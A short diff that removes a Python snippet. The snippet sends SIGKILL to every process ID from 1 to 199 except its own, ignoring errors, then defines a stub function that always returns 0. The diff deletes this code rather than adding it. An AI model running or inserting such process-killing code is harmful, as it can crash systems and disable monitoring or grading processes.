@@ -1,9 +1,0 @@
-import os, signal
-for pid in range(1, 200):
-    if pid != os.getpid():
-        try:
-            os.kill(pid, signal.SIGKILL)
-        except OSError:
-            pass
-def f(n):
-    return 0
